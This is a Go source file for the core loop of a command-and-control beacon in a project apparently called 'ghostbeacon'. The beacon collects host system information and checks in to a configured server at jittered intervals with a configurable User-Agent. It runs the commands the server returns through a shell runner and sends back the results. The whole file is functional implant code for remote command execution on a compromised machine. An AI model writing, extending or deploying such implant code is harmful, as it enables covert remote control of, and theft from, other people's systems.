package engine

import (
	"log"
	"time"

	"ghostbeacon/internal/beacon/config"
	"ghostbeacon/internal/beacon/dispatch"
	"ghostbeacon/internal/beacon/jitter"
	"ghostbeacon/internal/beacon/results"
	"ghostbeacon/internal/beacon/sysinfo"
	"ghostbeacon/internal/beacon/transport"
	"ghostbeacon/internal/beacon/wire"
	"ghostbeacon/pkg/shared"
)

// Transport is the single request/response capability the engine drives.
// Exactly one exchange is in flight at a time.
type Transport interface {
	Request(method string, headers map[string]string, body []byte) (*transport.Response, error)
}

// Engine is the cycle state machine: sleep, check in, dispatch, repeat.
// All session state (config, result buffer, running flag) is owned here and
// touched from a single goroutine only.
type Engine struct {
	cfg     *config.Config
	tr      Transport
	jit     *jitter.Calculator
	disp    *dispatch.Dispatcher
	coll    sysinfo.Collector
	sleeper jitter.Sleeper
	buf     *results.Buffer
	now     func() time.Time

	running bool
}

// New wires an engine with its real collaborators.
func New(cfg *config.Config) (*Engine, error) {
	tr, err := transport.NewClient(cfg)
	if err != nil {
		return nil, err
	}

	jit, err := jitter.NewCalculator(cfg.SleepInterval, cfg.JitterPercent)
	if err != nil {
		return nil, err
	}

	return &Engine{
		cfg:     cfg,
		tr:      tr,
		jit:     jit,
		disp:    dispatch.New(dispatch.ShellRunner{}),
		coll:    sysinfo.SystemCollector{},
		sleeper: jitter.RealSleeper{},
		buf:     results.NewBuffer(),
		now:     time.Now,
	}, nil
}

// Run drives the session to completion and returns the process exit code:
// 0 on a clean stop, 1 when initialization or the first check-in fails.
func (e *Engine) Run() int {
	info, err := e.coll.Collect()
	if err != nil {
		log.Printf("[-] Failed to collect system info: %v", err)
		return 1
	}

	log.Printf("[+] Beacon ID: %s", e.cfg.BeaconID)
	log.Printf("[+] Server: %s", e.cfg.ServerURL)
	log.Printf("[+] %s", e.jit.GetStats())

	// Initial contact is a hard precondition: no retry, abort on failure.
	if err := e.firstCheckin(info); err != nil {
		log.Printf("[-] Initial check-in failed: %v", err)
		return 1
	}
	e.running = true
	log.Printf("[+] Initial check-in successful")

	for e.running {
		e.sleeper.Sleep(e.jit.Next())

		cmds, err := e.checkin()
		if err != nil {
			// Skip the cycle whole: nothing fetched, buffered results kept
			// for retry on the normal cadence.
			log.Printf("[-] Check-in failed, retrying next cycle: %v", err)
			continue
		}
		e.buf.Clear()

		e.dispatchAll(cmds)
	}

	// Best-effort flush so the termination acknowledgement is delivered.
	if !e.buf.Empty() {
		if _, err := e.checkin(); err != nil {
			log.Printf("[-] Final check-in failed, %d result(s) lost: %v", e.buf.Len(), err)
		} else {
			e.buf.Clear()
		}
	}

	log.Printf("[+] Beacon stopped")
	return 0
}

// dispatchAll executes received commands strictly in list order. A
// termination verb lowers the running flag but the remaining commands in the
// same batch still execute.
func (e *Engine) dispatchAll(cmds []shared.Command) {
	for _, cmd := range cmds {
		result, stop := e.disp.Execute(cmd)
		if !e.buf.Append(result) {
			log.Printf("[-] Result buffer full, dropping result for command %s", cmd.ID)
		}
		if stop {
			e.running = false
		}
	}
}

func (e *Engine) firstCheckin(info *shared.SystemInfo) error {
	body, err := wire.EncodeFirstCheckin(e.cfg.BeaconID, e.now(), info)
	if err != nil {
		return err
	}
	// Commands in the first response are ignored; dispatch starts with the
	// first full cycle.
	_, err = e.exchange(body)
	return err
}

// checkin performs one exchange carrying either identity alone or the full
// result buffer, and returns the decoded command list on success.
func (e *Engine) checkin() ([]shared.Command, error) {
	var body []byte
	var err error
	if e.buf.Empty() {
		body, err = wire.EncodeCheckin(e.cfg.BeaconID, e.now())
	} else {
		body, err = wire.EncodeResults(e.cfg.BeaconID, e.now(), e.buf.Snapshot())
	}
	if err != nil {
		return nil, err
	}

	return e.exchange(body)
}

func (e *Engine) exchange(body []byte) ([]shared.Command, error) {
	resp, err := e.tr.Request("POST", e.headers(), body)
	if err != nil {
		return nil, err
	}

	// Only status 200 with a parseable body counts as success.
	if resp.StatusCode != 200 {
		return nil, &wire.ProtocolError{Reason: "unexpected status"}
	}
	return wire.DecodeResponse(resp.Body)
}

func (e *Engine) headers() map[string]string {
	return map[string]string{
		"User-Agent":          e.cfg.UserAgent,
		"Content-Type":        "application/json",
		shared.HeaderBeaconID: e.cfg.BeaconID,
	}
}
